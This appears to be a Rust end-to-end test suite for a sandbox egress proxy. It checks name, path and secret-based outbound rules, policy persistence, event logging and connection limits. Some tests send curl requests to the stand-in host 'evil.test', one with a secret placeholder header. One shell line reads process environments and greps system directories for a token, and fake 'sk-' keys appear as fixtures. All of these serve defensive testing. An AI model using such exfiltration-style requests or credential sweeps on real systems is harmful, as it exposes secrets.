//! What leaves a sandbox: decided by names, paths and secrets, also for clients that know of no proxy.

use std::fs::File;
use std::os::unix::fs::FileExt;
use std::path::Path;
use std::process::Command;

use rustix::fs::{SeekFrom, seek};
use serde_json::Value;
use torpor_e2e::{ECHO_PORT, Internet, TIERS, TLS_PORT, World};

const NAMES: [&str; 3] = ["api.test", "www.pkg.test", "evil.test"];

/// What `curl` says: the status and the body, or that it failed.
fn curl(world: &World, sandbox: &str, arguments: &[&str]) -> String {
    let usual = ["run", sandbox, "--", "curl", "-sS", "-m", "10", "-w", " %{http_code}"];
    let outcome = world.torpor(&[&usual, arguments].concat());
    if outcome.code == 0 { outcome.stdout } else { format!("failed: {}", outcome.stderr) }
}

#[track_caller]
fn reached(said: &str) {
    assert!(said.ends_with(" 200") && said.contains("the world answers"), "{said}");
}

#[track_caller]
fn refused(said: &str) {
    assert!(said.starts_with("failed:") || said.ends_with(" 403"), "{said}");
}

/// What the guest hears from a TCP server, or why it hears nothing.
fn greeting(world: &World, sandbox: &str, host: &str) -> String {
    let script = format!(
        "import socket\ntry: print(socket.create_connection(('{host}', {ECHO_PORT}), 20).recv(9))\n\
         except OSError as e: print('shut', e)"
    );
    world.torpor(&["run", sandbox, "--", "python3", "-c", &script]).ok()
}

/// Whether a datagram comes back.
fn echoes(world: &World, sandbox: &str, host: &str, port: u16) -> bool {
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n\
         try:\n s.sendto(b'x', ('{host}', {port})); print(s.recv(9))\nexcept OSError as e: print('shut', e)"
    );
    world.torpor(&["run", sandbox, "--", "python3", "-c", &script]).ok().starts_with("b'x'")
}

#[test]
fn names_decide_what_is_reached_whoever_asks() {
    let internet = Internet::with(&NAMES);
    let world = World::in_internet(&internet, &[]);
    world.create_with("web", &["--allow", "api.test", "--allow", "*.pkg.test"]);
    reached(&curl(&world, "web", &["http://api.test/"]));
    // Nobody reads it: the certificate is that of the world.
    reached(&curl(&world, "web", &["-k", "https://api.test/"]));
    reached(&curl(&world, "web", &["http://www.pkg.test/"]));
    assert!(greeting(&world, "web", "api.test").contains("hello"), "a server that speaks first");
    let address = internet.address.to_string();
    refused(&curl(&world, "web", &["http://evil.test/"]));
    refused(&curl(&world, "web", &["-H", "Host: evil.test", "http://api.test/"]));
    for scheme in ["http", "https"] {
        let port = if scheme == "http" { 80 } else { 443 };
        let resolved = format!("evil.test:{port}:{address}");
        let url = format!("{scheme}://evil.test/");
        refused(&curl(&world, "web", &["-k", "--resolve", &resolved, &url]));
    }
    let other = internet.other.to_string();
    assert!(greeting(&world, "web", &other).starts_with("shut"), "no name leads there");
    for port in [443, ECHO_PORT] {
        assert!(!echoes(&world, "web", &address, port), "a datagram to port {port}");
    }
    assert!(
        !internet.asked.lock().iter().any(|name| name == "evil.test"),
        "DNS carries nothing out"
    );
}

#[test]
fn a_policy_changes_at_once_and_outlives_sleep_fork_and_daemon() {
    let internet = Internet::with(&NAMES);
    let mut world = World::in_internet(&internet, &[]);
    world.create_with("web", &["--deny", "evil.test"]);
    let holds = |world: &World, sandbox: &str| {
        reached(&curl(world, sandbox, &["http://api.test/"]));
        refused(&curl(world, sandbox, &["http://evil.test/"]));
        let told = format!("evil.test:80:{}", internet.address);
        refused(&curl(world, sandbox, &["--resolve", &told, "http://evil.test/"]));
    };
    holds(&world, "web");
    world.torpor(&["update", "web", "--deny", "api.test"]).ok();
    refused(&curl(&world, "web", &["http://api.test/"]));
    reached(&curl(&world, "web", &["http://evil.test/"]));
    world.torpor(&["update", "web", "--deny", "evil.test"]).ok();
    for tier in TIERS {
        world.sleep("web", tier);
        holds(&world, "web");
    }
    world.torpor(&["fork", "web", "--name", "copy"]).ok();
    holds(&world, "copy");
    world.kill_daemon();
    world.start_daemon();
    for sandbox in ["web", "copy"] {
        holds(&world, sandbox);
    }
}

#[test]
fn methods_and_paths_are_intercepted_where_a_rule_needs_them() {
    let internet = Internet::with(&NAMES);
    let world = World::in_internet(&internet, &[]);
    world.create_with("web", &["--allow", "GET api.test/v1/", "--allow", "www.pkg.test"]);
    // Trusted without a word: the authority is in the image's store.
    reached(&curl(&world, "web", &["https://api.test/v1/things"]));
    reached(&curl(&world, "web", &["http://api.test/v1/things"]));
    for scheme in ["http", "https"] {
        for path in ["v2/things", "v1/../v2", "v1/%2e%2e/v2", "", "v1"] {
            let url = format!("{scheme}://api.test/{path}");
            refused(&curl(&world, "web", &["--path-as-is", &url]));
        }
        refused(&curl(&world, "web", &["-d", "x", &format!("{scheme}://api.test/v1/things")]));
    }
    // The other host is not read: only its own authority is believed.
    refused(&curl(&world, "web", &["https://www.pkg.test/"]));
    reached(&curl(&world, "web", &["-k", "https://www.pkg.test/"]));
    let python = "import urllib.request as u; print(u.urlopen('https://api.test/v1/x').status)";
    assert_eq!(world.torpor(&["run", "web", "--", "python3", "-c", python]).ok(), "200\n");
    let node = "fetch('https://api.test/v1/y').then(r => console.log(r.status))";
    assert_eq!(world.torpor(&["run", "web", "--", "node", "-e", node]).ok(), "200\n");
}

/// Files below the data directory that hold these bytes, but for images, which were there before.
fn holders(world: &World, bytes: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut places = vec![world.data_dir()];
    while let Some(place) = places.pop() {
        for entry in std::fs::read_dir(place).unwrap().flatten() {
            let (path, kind) = (entry.path(), entry.file_type().unwrap());
            if kind.is_dir() && !path.ends_with("images") {
                places.push(path);
            } else if kind.is_file() && holds(&path, bytes.as_bytes()) {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

/// Whether a file holds these bytes. Holes, of which disks are full, are not looked at.
fn holds(path: &Path, bytes: &[u8]) -> bool {
    let Ok(file) = File::open(path) else { return false };
    let mut chunk = vec![0; 1 << 20];
    let mut at = 0;
    while let Ok(data) = seek(&file, SeekFrom::Data(at)) {
        let Ok(length) = file.read_at(&mut chunk, data) else { return false };
        if length == 0 {
            return false;
        }
        if chunk[..length].windows(bytes.len()).any(|window| window == bytes) {
            return true;
        }
        // What lies across two chunks is found in the next.
        at = data + length.saturating_sub(bytes.len() - 1).max(1) as u64;
    }
    false
}

#[test]
fn a_secret_is_put_in_on_the_way_out_and_is_nowhere_inside() {
    let internet = Internet::with(&NAMES);
    let world = World::in_internet(&internet, &[]);
    let (value, mark) = ("sk-4f1d2c7a9be84013", "mark-77e0aa93c2d1");
    world.torpor_with(&["secret", "set", "TOKEN", "--host", "api.test"], value.as_bytes()).ok();
    let route = "api.test: Authorization=Bearer {{SECRET:TOKEN}}";
    let env = format!("MARK={mark}");
    world.create_with("web", &["--route", route, "--grant", "TOKEN", "--env", &env]);
    world.start_process("web", &["sh", "-c", "exec sleep 1000"]);
    reached(&curl(&world, "web", &["https://api.test/"]));
    let heard = |text: &str| internet.requests.lock().iter().any(|request| request.contains(text));
    assert!(heard(&format!("authorization: Bearer {value}")), "{:?}", internet.requests.lock());
    reached(&curl(&world, "web", &["-d", "key={{SECRET:TOKEN}}", "https://api.test/form"]));
    assert!(heard(&format!("key={value}")), "{:?}", internet.requests.lock());
    // Another host gets what was sent, as it was sent.
    reached(&curl(&world, "web", &["-H", "X-Key: {{SECRET:TOKEN}}", "http://evil.test/"]));
    assert!(heard("x-key: {{SECRET:TOKEN}}") || heard("X-Key: {{SECRET:TOKEN}}"));
    let look = "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; \
                grep -raF sk-4f1d2c7a /etc /tmp /run /var /home /root 2>/dev/null; true";
    let inside = world.sh("web", look).ok();
    assert!(inside.contains(mark) && !inside.contains(value), "the value is inside");
    let events = world.get("/v1/sandboxes/web/egress").text();
    assert!(events.contains("TOKEN") && !events.contains(value), "{events}");
    world.torpor(&["snapshot", "web", "--memory", "--name", "base"]).ok();
    world.torpor(&["sleep", "web", "--cold"]).ok();
    let with_mark = holders(&world, mark);
    assert!(with_mark.iter().any(|path| path.contains("/saves/")), "memory can be searched");
    assert_eq!(holders(&world, value), Vec::<String>::new(), "the value is in a file");
    let log = std::fs::read_to_string(world.data_dir().with_extension("log")).unwrap();
    assert!(!log.contains(value), "the value is in the log");
}

#[test]
fn a_secret_leaves_encrypted_and_does_not_come_back_later() {
    let internet = Internet::with(&NAMES);
    let world = World::in_internet(&internet, &[]);
    let value = "sk-9e31b7c5d2f04a68";
    let set = |hosts: &[&str]| {
        let bound = hosts.iter().flat_map(|host| ["--host", host]);
        let words: Vec<_> = ["secret", "set", "TOKEN"].into_iter().chain(bound).collect();
        world.torpor_with(&words, value.as_bytes()).ok();
    };
    set(&["api.test", "www.pkg.test"]);
    world.create_with("web", &["--route", "api.test: Authorization=Bearer {{SECRET:TOKEN}}"]);
    let heard = || internet.requests.lock().iter().filter(|text| text.contains(value)).count();
    reached(&curl(&world, "web", &["https://api.test/"]));
    assert_eq!(heard(), 1, "{:?}", internet.requests.lock());
    // Both hosts kept it. To the second nothing is ever sent.
    for url in [
        "https://api.test/kept",
        "https://api.test/packed",
        "https://www.pkg.test/kept",
        "https://www.pkg.test/packed",
        "http://www.pkg.test/kept",
    ] {
        for more in [&[][..], &["--compressed"], &["-r", "0-9999"]] {
            let said = curl(&world, "web", &[more, &[url]].concat());
            assert!(said.contains("[secret TOKEN]") && !said.contains(value), "{url}: {said}");
        }
    }
    let before = heard();
    let other_port = format!("https://api.test:{TLS_PORT}/");
    for url in ["http://api.test/", &other_port] {
        let said = curl(&world, "web", &[url]);
        assert!(said.ends_with(" 403") && said.contains("secret TOKEN is not sent"), "{said}");
    }
    assert_eq!(heard(), before, "{:?}", internet.requests.lock());
    let events = world.get("/v1/sandboxes/web/egress").text();
    assert!(events.contains("secret TOKEN not to http://api.test\""), "{events}");
    set(&["http://api.test", &format!("api.test:{TLS_PORT}")]);
    for url in ["http://api.test/", &other_port] {
        reached(&curl(&world, "web", &[url]));
    }
    assert_eq!(heard(), before + 2, "{:?}", internet.requests.lock());
}

#[test]
fn every_decision_is_told() {
    let internet = Internet::with(&NAMES);
    let world = World::in_internet(&internet, &[]);
    world.create_with("named", &["--allow", "api.test"]);
    let deny = internet.other.to_string();
    world.create_with("direct", &["--deny", &deny]);
    reached(&curl(&world, "named", &["http://api.test/seen?hidden=1"]));
    refused(&curl(&world, "named", &["-H", "Host: evil.test", "http://api.test/"]));
    assert!(greeting(&world, "direct", &internet.address.to_string()).contains("hello"));
    assert!(greeting(&world, "direct", &deny).starts_with("shut"));
    let events = |sandbox: &str| -> Vec<Value> {
        let answer = world.get(&format!("/v1/sandboxes/{sandbox}/egress")).json();
        answer["events"].as_array().unwrap().clone()
    };
    let told = |sandbox: &str, verdict: &str, key: &str, value: &str| {
        let wanted = |event: &Value| event["verdict"] == verdict && event[key] == value;
        torpor_e2e::wait_for("the event", || events(sandbox).into_iter().find(wanted))
    };
    assert_eq!(told("named", "allowed", "host", "api.test")["rule"], "api.test");
    told("named", "denied", "host", "evil.test");
    told("direct", "allowed", "address", &internet.address.to_string());
    told("direct", "denied", "address", &deny);
    let text = world.get("/v1/sandboxes/named/egress").text();
    assert!(!text.contains("hidden"), "a query is nobody's business: {text}");
    let shown = world.torpor(&["egress", "ls", "named"]).ok();
    assert!(shown.contains("evil.test") && shown.contains("denied"), "{shown}");
}

#[test]
fn a_gateway_is_the_address_that_the_world_sees() {
    let internet = Internet::with(&NAMES);
    let source = "198.51.100.7";
    let lent = Lent::new(source);
    let gateways = format!("{{office = \"source {source}\"}}");
    let world = World::in_internet(&internet, &[("TORPOR_EGRESS_GATEWAYS", &gateways)]);
    world.create_with("web", &["--gateway", "office"]);
    reached(&curl(&world, "web", &["http://api.test/"]));
    assert!(internet.peers.lock().iter().any(|peer| peer.to_string() == source));
    let wrong = world.torpor(&["create", "--gateway", "nowhere"]);
    assert!(wrong.stderr.contains("nowhere"), "{wrong:?}");
    drop(lent);
}

/// An address that this host has for a while.
struct Lent(String);

impl Lent {
    fn new(address: &str) -> Self {
        let range = format!("{address}/32");
        let added = Command::new("ip").args(["address", "add", &range, "dev", "lo"]).status();
        assert!(added.unwrap().success());
        Self(range)
    }
}

impl Drop for Lent {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["address", "delete", &self.0, "dev", "lo"]).status();
    }
}

#[test]
fn connections_beyond_the_limit_are_refused() {
    let internet = Internet::with(&NAMES);
    let world = World::in_internet(&internet, &[]);
    world.create_with("web", &["--connections", "3"]);
    let script = format!(
        "import socket\nheld = []\nfor _ in range(5):\n try: held.append(socket.create_connection(('{}', {ECHO_PORT}), 3))\n \
         except OSError: pass\nprint(len(held))",
        internet.address
    );
    assert_eq!(world.torpor(&["run", "web", "--", "python3", "-c", &script]).ok(), "3\n");
}
